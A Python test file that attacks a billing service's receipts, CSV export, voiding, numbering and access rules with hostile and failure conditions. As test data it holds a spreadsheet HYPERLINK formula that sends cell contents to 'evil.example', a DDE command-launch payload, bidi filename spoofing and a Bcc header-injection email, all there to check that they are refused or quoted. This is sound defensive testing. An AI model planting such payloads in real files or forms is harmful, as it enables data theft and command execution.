"""Billing documents attacked as a hostile or unlucky user or operator would (docs/billing.md): Accept headers that
do not want a PDF, bidi overrides in billing details, formulas behind a tab in the accountant's CSV, two issuers
voiding at once, the period filter's edges, names no installed font can print, SMTP down when a receipt is issued,
notifications replayed and reordered for an order paid in parts, and a gateway killed while issuing receipts."""

import asyncio
import csv
import io
import logging
import shutil
import subprocess
from datetime import UTC, datetime, timedelta

import pytest
import test_billing
from support import Gateway
from test_billing import NOWPAYMENTS, checkout, ipn, nowpayments_order, pay
from test_receipts import DETAILS, admin_token, join, receipts

from billing import receipts as billing_receipts
from billing.numbering import RECEIPT, Numbering
from billing.pdf import Document, Party, render
from billing.receipts import AlreadyVoid, Billing
from payments.currencies import CURRENCIES
from security import roles
from storage.billing import BillingStore

# The fake processor and its settings (test_billing.py), for the notifications below.
processor, settings, upstream_url = test_billing.processor, test_billing.settings, test_billing.upstream_url
pytestmark = [pytest.mark.gen_test(timeout=60), pytest.mark.settings(admin_emails="boss@example.com")]


async def paid(api, token: str, usd: float = 10) -> dict:
    order = await checkout(api, token, "USDTTRC20", usd)
    await pay(api, token, order["order_id"], usd)
    return (await receipts(api, token))[0]


@pytest.mark.parametrize(
    "accept, pdf",
    [
        ("application/pdf", True),
        ("application/json;q=0.5, application/pdf", True),
        ("application/pdf, */*", True),
        ("application/pdf;q=0", False),  # "not acceptable" in RFC 9110
        ("application/pdf;q=0.9, application/json", False),  # JSON preferred
        ("application/pdf;q=0.5, */*;q=0.8", False),
        ("*/*", False),
        ("text/html,application/xhtml+xml,*/*;q=0.8", False),  # a browser's
    ],
)
async def test_the_accept_header_gets_the_type_it_prefers(api, accept, pdf):
    token = (await api.register())["token"]
    number = (await paid(api, token))["number"]
    status, body, headers = await api.call(
        "GET", f"/billing/receipts/{number}", token=token, headers={"Accept": accept}
    )
    assert status == 200
    if pdf:
        assert headers["Content-Type"] == "application/pdf" and body.startswith(b"%PDF")
    else:
        assert headers["Content-Type"].startswith("application/json") and body["number"] == number


@pytest.mark.parametrize("name", ["Acme \u202egnp.exe\u202c Ltd", "\u2067Acme\u2069", "Acme\u200b\x7f"])
async def test_bidi_overrides_in_billing_details_are_refused(api, name):
    token = (await api.register())["token"]
    for field in ("legal_name", "tax_id"):
        status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, field: name}, token=token)
        assert status == 422 and body["detail"][0]["loc"] == ["body", field], body
    status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, "address": "1 Road\n\u202eX"}, token=token)
    assert status == 422 and body["detail"][0]["loc"] == ["body", "address"]
    # Right-to-left letters themselves, and the marks LRM and RLM, are a name as given.
    arabic = "شركة البيانات\u200f المحدودة"
    status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, "legal_name": arabic}, token=token)
    assert status == 200 and body["legal_name"] == arabic


async def test_the_accountants_csv_quotes_formulas_behind_a_tab_or_return_and_edges_of_the_period(api, ctx):
    admin = await admin_token(api, ctx)
    user = await api.register()
    hostile = '\t=HYPERLINK("http://evil.example/?"&A1,"refund")'
    credit = {"credits": 1000, "reason": "bank transfer", "paid_usd": 1, "payment_reference": hostile}
    status, credited, _ = await api.call("POST", f"/admin/accounts/{user['account_id']}/credit", credit, token=admin)
    assert status == 200, credited
    credit["payment_reference"] = "\r+cmd|' /C calc'!A0"
    status, second, _ = await api.call("POST", f"/admin/accounts/{user['account_id']}/credit", credit, token=admin)
    assert status == 200, second
    today = datetime.now(UTC).date()
    period = f"?from={today}&to={today + timedelta(days=1)}&format=csv"
    status, body, _ = await api.call("GET", "/admin/billing/receipts" + period, token=admin)
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(body.decode()))}
    assert rows[credited["receipt"]]["payment_reference"] == "'" + hostile
    assert rows[second["receipt"]]["payment_reference"].startswith("'\r+cmd")
    # A void reason is printed on documents and in the CSV: control characters are refused, nothing voided.
    void = f"/admin/billing/receipts/{credited['receipt']}/void"
    for reason in ("\t=1+1 refund", "ok\x00reason", "a \u202eb c"):
        status, body, _ = await api.call("POST", void, {"reason": reason}, token=admin)
        assert status == 422 and body["detail"][0]["loc"] == ["body", "reason"], body
    assert (await api.call("GET", f"/billing/receipts/{credited['receipt']}", token=user["token"]))[1]["void"] is None
    # A credit note is not a receipt: voiding one is 404.
    status, voided, _ = await api.call("POST", void, {"reason": "typed twice"}, token=admin)
    note = voided["credit_note"]["number"]
    status, _, _ = await api.call("POST", f"/admin/billing/receipts/{note}/void", {"reason": "again"}, token=admin)
    assert status == 404
    # The period: [from, to) in UTC days; a `to` not after `from` is empty; the widest range a date allows is fine.
    edges = {
        f"?from={today}&to={today}": 0,
        f"?from={today + timedelta(days=1)}&to={today}": 0,
        f"?from={today - timedelta(days=1)}&to={today}": 0,
        "?from=0001-01-01&to=9999-12-31": 2,
    }
    for query, count in edges.items():
        status, listing, _ = await api.call("GET", "/admin/billing/receipts" + query, token=admin)
        mine = [r for r in listing["receipts"] if r["account_id"] == user["account_id"]]
        assert status == 200 and len(mine) == count, query
    for query in ("?from=2026-02-30", "?to=10000-01-01", "?from=yesterday"):
        assert (await api.call("GET", "/admin/billing/receipts" + query, token=admin))[0] == 422, query


async def test_two_issuers_voiding_at_once_give_one_credit_note_and_no_gap(api, ctx):
    """Two issuers on one database (each process has its own turn-taking and its own idea of the highest
    number): the same receipt voided by both gets one credit note; two receipts voided at once get consecutive
    credit note numbers."""
    token = (await api.register())["token"]
    numbers = [(await paid(api, token, usd))["number"] for usd in (10, 11, 12)]
    other = Billing(ctx.billing.state, BillingStore(ctx.billing.store.documents.database), ctx.billing.payments, None)
    outcomes = await asyncio.gather(
        ctx.billing.void(numbers[0], "duplicate payment"),
        other.void(numbers[0], "paid twice"),
        return_exceptions=True,
    )
    notes = [o[1] for o in outcomes if isinstance(o, tuple)]
    refused = [o for o in outcomes if isinstance(o, AlreadyVoid)]
    assert len(notes) == 1 and len(refused) == 1 and refused[0].args[0]["_id"] == notes[0]["_id"]
    both = await asyncio.gather(ctx.billing.void(numbers[1], "wrong account"), other.void(numbers[2], "wrong account"))
    seqs = sorted(note["seq"] for _, note in both)
    assert seqs == [notes[0]["seq"] + 1, notes[0]["seq"] + 2]
    store = ctx.billing.store.documents
    assert await store.count_documents({"series": "C", "voids": {"$in": numbers}}) == 3


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext missing: apt-get install -y poppler-utils")
def test_a_name_no_installed_font_has_is_never_silently_missing(tmp_path):
    """Without a CJK font (none is installed by ./dev or the image) a Japanese company's name must not vanish
    from "Billed to": it prints as '?', which tells the reader a name is there."""
    name = "株式会社ソーシャルデータ"
    page = Document(
        operator="Acme", title="Receipt R-2026-000001", parties=(Party("Billed to", (name, "Ελλάδα", "Rocket 🚀")),)
    )
    path = tmp_path / "r.pdf"
    path.write_bytes(render(page))
    text = subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True, text=True).stdout
    lines = text.split("BILLED TO", 1)[1].split()
    assert lines[0] in (name, "?" * len(name))
    assert "Ελλάδα" in lines and "Rocket" in lines and lines[lines.index("Rocket") + 1] in ("🚀", "?")


@pytest.mark.settings(smtp_url="smtp://127.0.0.1:9")  # the discard port: nothing listens
async def test_smtp_down_at_issue_time_still_issues_the_receipt_and_logs_the_failure(api, caplog):
    token = (await api.register())["token"]
    assert (await api.call("PUT", "/billing/details", DETAILS, token=token))[0] == 200
    with caplog.at_level(logging.WARNING, logger="gateway.billing"):
        receipt = await paid(api, token)
        await asyncio.gather(*billing_receipts._pending)
    assert receipt["customer"]["email"] == DETAILS["email"]
    assert any(f"receipt {receipt['number']} not emailed" in r.getMessage() for r in caplog.records)


@NOWPAYMENTS
async def test_a_partly_paid_then_finished_order_has_a_receipt_per_part_that_adds_up(api, processor):
    user, order, payment_id = await nowpayments_order(api, processor, 40, "LTC")  # 0.5 LTC
    partial = processor.settle(payment_id, "partially_paid", 0.1)
    for _ in range(2):  # delivered twice
        assert (await ipn(api, partial))[0] == 200
    final = processor.settle(payment_id, "finished", 0.6)  # over-paid: 0.6 LTC in all, 48 USD
    for payload in (final, partial, final):  # replayed, and the older one arriving late
        assert (await ipn(api, payload))[0] == 200
    listed = await receipts(api, user["token"])
    assert [(r["amount_paid"], r["amount_usd"], r["credits"]) for r in listed] == [
        (0.5, 40, 4_000_000),
        (0.1, 8, 800_000),
    ]
    assert {r["order_id"] for r in listed} == {order["order_id"]} and {r["payment_reference"] for r in listed} == {
        payment_id
    }


# The served gateway's secrets (gateway_testing/stack.py): it accepts this test's sessions.
SECRETS = {"jwt_secret": "stack-jwt-secret-" + "x" * 32, "secrets_key": "stack-secrets-key-" + "y" * 32}


@pytest.mark.settings(**SECRETS)
async def test_a_gateway_killed_while_issuing_receipts_leaves_no_gap_duplicate_or_payment_without_one(
    api, ctx, mongo, upstream_url
):
    """SIGKILL a served gateway while payments settle on it; the next notification (here: re-reading every
    order, as the reconciler does) finishes what it left: receipts 1..N, each paid credit with its receipt."""
    users = [await api.register() for _ in range(2)]
    placed = [
        await ctx.payments.checkout(users[n % 2]["account_id"], CURRENCIES["USDTTRC20"], 10 + n) for n in range(24)
    ]
    gw = await Gateway(mongo.uri, upstream_url, ctx.settings.mongodb_db).launch()
    documents = ctx.billing.store.documents

    async def pay_on_gateway(n: int, order: dict):
        body = {"order_id": order["_id"], "amount_usd": 10 + n}
        auth = f"Bearer {users[n % 2]['token']}"
        return await gw.call("POST", "/billing/crypto/sandbox/pay", body, Authorization=auth)

    paying = asyncio.gather(*(pay_on_gateway(n, o) for n, o in enumerate(placed)), return_exceptions=True)
    for _ in range(400):  # until some receipts are written (a bound on a hang, not a deadline)
        if await documents.count_documents({"series": "R"}) >= 4:
            break
        await asyncio.sleep(0.01)
    gw.kill()
    await paying
    # The restart: every order re-read and its pending credits settled, as a notification or the reconciler does.
    for order in placed:
        await ctx.payments.crediting.settle(await ctx.payments.refresh(await ctx.payments.orders.get(order["_id"])))
    issued = await documents.find({"series": "R"}).to_list(None)
    assert sorted(d["seq"] for d in issued) == list(range(1, len(issued) + 1))
    for order in placed:
        stored = await ctx.payments.orders.get(order["_id"])
        assert not stored.get("pending")
        mine = [d for d in issued if d["payment"].get("order_id") == order["_id"]]
        assert sum(d["credits"] for d in mine) == stored["credits_applied"], stored


async def test_details_changed_while_payments_settle_give_each_receipt_the_details_of_one_moment(api):
    token = (await api.register())["token"]
    sets = [{**DETAILS, "legal_name": f"Name {n}", "address": f"{n} Road", "tax_id": f"TAX{n}"} for n in range(3)]
    assert (await api.call("PUT", "/billing/details", sets[0], token=token))[0] == 200
    orders = [await checkout(api, token, "USDTTRC20", 10 + n) for n in range(5)]

    async def put(n: int):
        assert (await api.call("PUT", "/billing/details", sets[n % 3], token=token))[0] == 200

    await asyncio.gather(*(pay(api, token, o["order_id"], 10 + n) for n, o in enumerate(orders)), *map(put, range(12)))
    listed = await receipts(api, token)
    assert len(listed) == 5 and all(r["customer"] in sets for r in listed)


async def test_documents_of_another_account_or_without_billing_rights_are_never_shown(api, ctx):
    admin = await admin_token(api, ctx)
    owner, stranger = await api.register(), await api.register()
    number = (await paid(api, owner["token"]))["number"]
    void = f"/admin/billing/receipts/{number}/void"
    note = (await api.call("POST", void, {"reason": "test void"}, token=admin))[1]["credit_note"]["number"]
    developer = await join(api, owner["token"], roles.DEVELOPER)
    viewer = await join(api, owner["token"], roles.VIEWER)
    billing = await join(api, owner["token"], roles.BILLING)
    for path in (f"/billing/receipts/{number}", f"/billing/credit-notes/{note}"):
        for member in (developer, viewer):
            assert (await api.call("GET", path, token=member["token"]))[0] == 403
        assert (await api.call("GET", path, token=billing["token"]))[0] == 200
        for accept in ("application/json", "application/pdf"):
            status, body, _ = await api.call("GET", path, token=stranger["token"], headers={"Accept": accept})
            assert status == 404 and number not in str(body)
        assert (await api.call("GET", path.replace("-2", "-1"), token=owner["token"]))[0] == 404  # another year
    # A receipt's number on the credit notes' path, and the reverse: 404, not the document.
    assert (await api.call("GET", f"/billing/credit-notes/{number}", token=owner["token"]))[0] == 404
    assert (await api.call("GET", f"/billing/receipts/{note}", token=owner["token"]))[0] == 404
    for member in (owner, billing):
        assert (await api.call("GET", f"/admin/billing/documents/{number}", token=member["token"]))[0] == 403
        assert (await api.call("POST", void, {"reason": "mine now"}, token=member["token"]))[0] == 403


async def test_the_year_turning_while_two_issuers_race_neither_restarts_nor_repeats_a_number(api, ctx):
    """Two processes issue at once across UTC midnight of a new year: R-2030-... and R-2031-... are different ids
    but must not share a number; the admin period splits them at midnight."""
    admin = await admin_token(api, ctx)
    account_id = (await api.register())["account_id"]
    store = ctx.billing.store
    other = Numbering(BillingStore(store.documents.database))
    contents = {"kind": "receipt", "account_id": account_id, "issuer": ctx.billing.issuer(), "customer": {}}
    contents |= {"payment": {"method": "admin", "currency": "USD", "amount_paid": 1.0}, "amount_usd": 1.0, "credits": 1}
    late = datetime(2030, 12, 31, 23, 59, 59, 999999, UTC)
    early = datetime(2031, 1, 1, tzinfo=UTC)
    issued = await asyncio.gather(
        *(
            issuer.issue(RECEIPT, f"test:{n}", contents, late if n % 2 else early)
            for n, issuer in enumerate([ctx.billing.numbering, other] * 3)
        )
    )
    seqs = sorted(doc["seq"] for doc, _ in issued)
    assert seqs == list(range(seqs[0], seqs[0] + 6))
    for query, year in (("?from=2031-01-01&to=2031-01-02", "2031"), ("?from=2030-12-31&to=2031-01-01", "2030")):
        status, listing, _ = await api.call("GET", "/admin/billing/receipts" + query, token=admin)
        assert status == 200 and [r["number"][2:6] for r in listing["receipts"]] == [year] * 3


@NOWPAYMENTS
async def test_the_parts_receipts_add_up_to_the_usd_paid_to_the_cent(api, processor):
    """Each part's USD is rounded to cents on its receipt; the roundings must not pile up: three parts of an order
    paid 48.00 USD in all say 48.00 together, not 48.01."""
    user, _, payment_id = await nowpayments_order(api, processor, 40, "LTC")  # 0.5 LTC
    for status, coins in (("partially_paid", 0.0333333), ("partially_paid", 0.0666666), ("finished", 0.6)):
        assert (await ipn(api, processor.settle(payment_id, status, coins)))[0] == 200
    listed = await receipts(api, user["token"])
    assert len(listed) == 3 and sum(r["credits"] for r in listed) == 4_800_000
    assert sum(round(r["amount_usd"] * 100) for r in listed) == 4800


@pytest.mark.parametrize("email", ["accounts@example.com\n", "accounts@example.com\nBcc: all@example.com"])
async def test_a_billing_email_with_a_line_break_is_refused(api, email):
    """A trailing newline passed the email pattern (`$` matches before it): saved, it made every receipt's email
    fail (a header may not hold a line break) while the details looked fine."""
    token = (await api.register())["token"]
    status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, "email": email}, token=token)
    assert status == 422 and body["detail"][0]["loc"] == ["body", "email"], body
